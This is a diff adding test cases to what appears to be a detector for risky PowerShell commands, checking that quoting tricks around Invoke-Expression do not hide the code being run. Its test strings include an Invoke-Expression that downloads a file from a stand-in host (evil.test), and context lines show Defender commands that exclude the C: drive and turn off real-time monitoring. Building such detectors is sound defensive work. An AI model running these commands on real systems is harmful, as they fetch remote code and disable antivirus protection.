@@ -72,6 +72,14 @@ test.each([
 });
 
 test.each([
+  ["iex (@'\n# don't\niwr http://evil.test/p -OutFile p\n'@)", "# don't\niwr http://evil.test/p -OutFile p"],
+  ['iex ("iwr http://evil.test/p -OutFile `"p)`"")', 'iwr http://evil.test/p -OutFile "p)"'],
+  ["iex ('a' + \"`\"(\" + 'b')", 'a"(b'],
+])("quotes within a string do not hide what is run: %j", (text, inner) => {
+  expect(analyse(text).texts.map((found) => found.text)).toEqual([inner]);
+});
+
+test.each([
   ["Add-MpPreference -ExclusionPath C:\\", "1: disable-protection antivirus"],
   ["Set-MpPreference -DisableRealtimeMonitoring $true", "1: disable-protection antivirus"],
   [
